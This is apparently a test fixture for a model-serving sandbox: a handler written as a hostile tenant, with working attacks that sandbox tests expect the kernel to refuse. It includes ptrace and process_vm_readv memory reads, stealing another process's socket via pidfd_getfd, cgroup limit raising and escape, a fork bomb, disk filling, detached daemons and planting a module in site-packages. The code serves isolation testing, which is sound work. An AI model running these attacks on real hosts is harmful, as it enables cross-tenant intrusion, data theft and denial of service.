"""A model written as a hostile tenant would write it.

Each request is a JSON object ``{"attack": NAME, ...arguments}``; the answer is a JSON
object saying what happened (``{"ok": true, ...}`` when the attack worked, ``{"errno":
N}`` or ``{"error": "..."}`` when the kernel refused it). The sandbox tests ask for each
attack and assert it was refused; without the sandbox every one of them works.

``model_fn`` also records what a model zygote may do at load time (``ATTACK_AT_LOAD``):
allocate past the endpoint's memory when it runs in a model zygote, or plant a module
where a runtime zygote would import it.
"""

import ctypes
import json
import os
import signal
import socket
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_TRACEME, PTRACE_ATTACH = 0, 16
SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438
SYS_PROCESS_VM_READV = 310


def model_fn(model_dir):
    load = {"model_dir": model_dir, "comm": _read("/proc/self/comm").strip()}
    if os.environ.get("ATTACK_AT_LOAD") == "balloon" and load["comm"] == "cb-model-zygote":
        # A model zygote is no worker, so nothing limits it: take more than the endpoint has.
        megabytes = int(os.environ["BALLOON_MB"])
        load["balloon"] = bytearray(megabytes << 20)
        for offset in range(0, len(load["balloon"]), 4096):
            load["balloon"][offset] = 1
    planted = os.environ.get("PLANT_MODULE")
    if planted:
        # Plant a module on the installation's path and import it, so a runtime zygote
        # learns it and pre-imports it into every later worker.
        target = os.path.join(_site_packages(), f"{planted}.py")
        try:
            with open(target, "w") as module:
                module.write(f"PLANTED_BY = {os.environ.get('ME', '?')!r}\n")
            __import__(planted)
            load["planted"] = target
        except OSError as exc:
            load["plant_errno"] = exc.errno
    return load


def _site_packages():
    return next(path for path in sys.path if path.endswith("site-packages"))


def _read(path, size=4096):
    with open(path, "rb") as file:
        return file.read(size).decode(errors="replace")


def _refused(exc):
    return {"errno": exc.errno, "error": f"{type(exc).__name__}: {exc}"}


def read_file(args, model):
    try:
        return {"ok": True, "data": _read(args["path"], 200)}
    except OSError as exc:
        return _refused(exc)


def write_file(args, model):
    try:
        with open(args["path"], "a") as file:
            file.write(args.get("text", "# tampered\n"))
        return {"ok": True}
    except OSError as exc:
        return _refused(exc)


def processes(args, model):
    """The pids this process can see, and their names."""
    seen = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                seen[entry] = _read(f"/proc/{entry}/comm").strip()
            except OSError:
                seen[entry] = "?"
    return {"ok": True, "pids": seen, "me": os.getpid()}


def identity(args, model):
    status = dict(
        line.split(":", 1) for line in _read("/proc/self/status", 65536).splitlines() if ":" in line
    )
    keys = ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp")
    return {
        "ok": True,
        "uid": os.getuid(),
        "gid": os.getgid(),
        "groups": os.getgroups(),
        **{key: status.get(key, "").strip() for key in keys},
        "model_dir": model["model_dir"],
        "cwd": os.getcwd(),
        "home": os.environ.get("HOME"),
    }


def ptrace(args, model):
    """Attach to another process (to read its memory and requests), or trace myself."""
    pid = int(args.get("pid", 0))
    request = PTRACE_ATTACH if pid else PTRACE_TRACEME
    if LIBC.ptrace(request, pid, None, None) == 0:
        return {"ok": True}
    return {"errno": ctypes.get_errno()}


def read_memory(args, model):
    """process_vm_readv: read another process's memory without attaching."""
    pid = int(args["pid"])
    buffer = ctypes.create_string_buffer(64)

    class IoVec(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("len", ctypes.c_size_t))

    local = IoVec(ctypes.cast(buffer, ctypes.c_void_p), 64)
    remote = IoVec(int(args.get("address", 0x400000)), 64)
    got = LIBC.syscall(
        SYS_PROCESS_VM_READV, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0
    )
    if got >= 0:
        return {"ok": True, "bytes": got}
    return {"errno": ctypes.get_errno()}


def steal_socket(args, model):
    """pidfd_getfd: take a copy of another process's file descriptor (the gateway's
    listening socket, say)."""
    pidfd = LIBC.syscall(SYS_PIDFD_OPEN, int(args["pid"]), 0)
    if pidfd < 0:
        return {"errno": ctypes.get_errno(), "step": "pidfd_open"}
    stolen = LIBC.syscall(SYS_PIDFD_GETFD, pidfd, int(args.get("fd", 3)), 0)
    os.close(pidfd)
    if stolen < 0:
        return {"errno": ctypes.get_errno(), "step": "pidfd_getfd"}
    os.close(stolen)
    return {"ok": True}


def cgroup_escape(args, model):
    """Raise my own memory limit, then leave my cgroup for the root one."""
    outcome = {}
    for line in _read("/proc/self/cgroup").splitlines():
        _, controllers, path = line.split(":", 2)
        if "memory" in controllers.split(","):
            limit = f"/sys/fs/cgroup/memory{path}/memory.limit_in_bytes"
            try:
                with open(limit, "w") as file:
                    file.write(str(64 << 30))
                outcome["raised"] = True
            except OSError as exc:
                outcome["raise_errno"] = exc.errno
    for tasks in ("/sys/fs/cgroup/memory/tasks", "/sys/fs/cgroup/cgroup.procs"):
        try:
            with open(tasks, "w") as file:
                file.write(str(os.getpid()))
            outcome["left"] = tasks
        except OSError as exc:
            outcome.setdefault("leave_errno", exc.errno)
    outcome["ok"] = "raised" in outcome or "left" in outcome
    return outcome


def fork_bomb(args, model):
    """Fork until the kernel refuses (at most ``limit``); count, then end them all."""
    children = []
    refused = None
    for _ in range(int(args.get("limit", 2000))):
        try:
            pid = os.fork()
        except OSError as exc:
            refused = exc.errno
            break
        if pid == 0:
            signal.pause()
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.kill(pid, signal.SIGKILL)
    for pid in children:
        os.waitpid(pid, 0)
    return {"ok": refused is None, "forked": len(children), "errno": refused}


def fill_disk(args, model):
    """Write ``megabytes`` into files in ``directory``, 1 MB at a time, until refused."""
    directory = args.get("directory", "/tmp")
    chunk = b"x" * (1 << 20)
    written = 0
    refused = None
    index = 0
    try:
        while written < int(args["megabytes"]) << 20:
            # Many files: a per-file limit alone would not stop this.
            with open(os.path.join(directory, f"fill-{index}"), "wb") as file:
                for _ in range(8):
                    file.write(chunk)
                    written += len(chunk)
            index += 1
    except OSError as exc:
        refused = exc.errno
    return {"ok": refused is None, "written_mb": written >> 20, "errno": refused}


def leave_daemon(args, model):
    """Start a process that detaches itself (new session, double fork) and lives on."""
    marker = args["marker"]
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sleep", ["/bin/sleep", marker])
        os._exit(0)
    os.waitpid(pid, 0)
    return {"ok": True}


def connect(args, model):
    """Open a TCP connection to ``host``:``port``."""
    try:
        with socket.create_connection((args["host"], int(args["port"])), timeout=5):
            return {"ok": True}
    except OSError as exc:
        return _refused(exc)


def interfaces(args, model):
    return {"ok": True, "names": [name for _, name in socket.if_nameindex()]}


def modules(args, model):
    return {"ok": True, "loaded": sorted(name for name in sys.modules if name in args["names"])}


def pause(args, model):
    time.sleep(float(args.get("seconds", 0.5)))
    return {"ok": True, "me": os.getpid()}


ATTACKS = {
    function.__name__: function
    for function in (
        read_file,
        write_file,
        processes,
        identity,
        ptrace,
        read_memory,
        steal_socket,
        cgroup_escape,
        fork_bomb,
        fill_disk,
        leave_daemon,
        connect,
        interfaces,
        modules,
        pause,
    )
}


def transform_fn(model, body, content_type, accept):
    request = json.loads(body)
    answer = ATTACKS[request["attack"]](request, model)
    return json.dumps(answer).encode(), "application/json"
